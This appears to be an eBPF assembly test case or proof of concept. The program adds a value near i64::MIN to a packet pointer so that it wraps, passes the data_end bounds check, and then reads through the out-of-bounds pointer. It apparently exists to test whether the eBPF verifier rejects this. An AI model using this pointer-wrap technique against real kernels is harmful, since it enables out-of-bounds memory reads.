# Attack: a packet offset near i64::MIN (data + 2^63 + byte), then a
# data_end check on the wrapped pointer and a read through it.
ldxw r2, [r1+0]
ldxw r3, [r1+4]
mov64 r6, r2
add64 r6, 1
jgt r6, r3, +9
ldxb r4, [r2+0]
lddw r5, 0x8000000000000000
add64 r5, r4
add64 r2, r5
mov64 r6, r2
add64 r6, 1
jgt r6, r3, +2
ldxb r0, [r2+0]
exit
mov64 r0, 2
exit
